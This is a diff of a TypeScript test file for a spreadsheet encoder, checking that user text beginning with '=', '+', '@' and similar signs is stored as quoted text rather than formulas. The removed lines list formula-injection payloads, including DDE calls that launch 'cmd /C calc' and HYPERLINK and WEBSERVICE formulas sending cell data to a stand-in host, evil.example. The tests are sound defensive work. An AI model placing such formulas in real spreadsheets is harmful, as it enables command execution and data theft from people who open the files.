@@ -1,4 +1,5 @@
 import { describe, expect, it } from "vitest";
+import { FORMULA_TEXTS, shownText } from "./formula-texts.test-support";
 import { createSheetEncoder } from "./sheet-encoder.server";
 import { columnName } from "./workbook-skeleton.server";
 import { column, writeColumn, writeRows } from "./written-workbook.test-support";
@@ -138,52 +139,27 @@ describe("links", () => {
 });
 
 describe("formulas", () => {
-  const signs = ["=", "+", "-", "@", "\t", "\r", "\n", "\0"];
-  const wide = ["＝", "＋", "－", "＠"];
-  const attacks = [
-    "1+1",
-    `cmd|' /C calc'!A0`,
-    `HYPERLINK("http://evil.example/?x="&A1,"Klick")`,
-    `WEBSERVICE("http://evil.example/")`,
-    'DDE("cmd";"/C calc";"x")',
-    "1\n=2",
-  ];
-  const marked = [...signs, ...wide].flatMap((sign) =>
-    attacks.flatMap((attack) => [
-      `${sign}${attack}`,
-      `   ${sign}${attack}`,
-      `\0${sign}${attack}`,
-      `"${sign}${attack}`,
-      `'${sign}${attack}`,
-    ]),
-  );
-  const harmless = ["%=1+1", ";=1+1", "a\t=1+1", "Text = Wert", "1+1", "x=1"];
-  const alsoMarked = ["-", "+49 30 1234", `=${"1".repeat(32_767)}`];
-  const texts = [...marked, ...alsoMarked, ...harmless];
-
   it("come out of no text, neither in a cell nor in a header", async () => {
+    const texts = FORMULA_TEXTS.map(({ text }) => text);
     const { book } = await writeRows(
       texts.map((text, index) => column(index, "text", text)),
       [texts],
     );
     expect(book.sheet).not.toMatch(/<f[ >/]/);
-    texts.forEach((text, index) => {
-      const shown = text.replaceAll("\0", "").slice(0, 32_767);
-      const quoted = index < texts.length - harmless.length;
+    FORMULA_TEXTS.forEach(({ text, isQuoted }, index) => {
       for (const reference of [`${columnName(index)}1`, `${columnName(index)}2`]) {
-        expect(book.cell(reference)).toMatchObject({ type: "inlineStr", text: shown });
+        expect(book.cell(reference)).toMatchObject({ type: "inlineStr", text: shownText(text) });
         expect(book.format(reference).includes(`quotePrefix="1"`), JSON.stringify(text)).toBe(
-          quoted,
+          isQuoted,
         );
       }
     });
-    expect(book.cell(`${columnName(texts.indexOf("+49 30 1234"))}2`)?.text).toBe("+49 30 1234");
   });
 
   it.each(["text", "link", "email", "number", "date", "datetime"] as const)(
     "stay quoted texts when somebody edits a cell of kind %s",
     async (kind) => {
-      const starts = [...signs.slice(0, 4), ...wide, "  =", "\0=", "\t", "\r", "\n", '"='];
+      const starts = ["=", "+", "-", "@", ..."＝＋－＠", "  =", "\0=", "\t", "\r", "\n", '"='];
       const book = await writeColumn(
         kind,
         starts.map((start) => `${start}1`),
